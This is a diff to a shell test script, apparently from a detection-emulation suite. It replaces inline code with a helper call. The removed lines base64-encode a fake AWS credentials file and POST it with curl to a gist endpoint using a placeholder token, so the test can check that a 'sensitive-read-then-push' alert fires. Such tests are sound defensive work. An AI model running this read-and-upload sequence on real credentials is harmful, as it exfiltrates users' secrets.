@@ -35,10 +35,6 @@ work="$EMU_WORKDIR/curl-fqdn-trailing-dot-gist"
 rm -rf "$work"
 HOME="$work/home"
 emu_fake_secrets "$HOME"
-content=$(base64 "$HOME/.aws/credentials" | tr -d '\n')
-printf '{"files":{"x":{"content":"%s"}},"public":false}' "$content" >"$work/g.json"
-emu_log "posting the fake credentials to $url"
-emu_retry 12 curl -fsS -o /dev/null -X POST -H "Authorization: Bearer ghp_FAKEEXAMPLETOKEN000000000000000000" \
-  --data-binary "@$work/g.json" "$url"
+emu_post_fake_aws_gist "$work" "$url"
 rm -rf "$work"
 emu_expect sensitive-read-then-push high
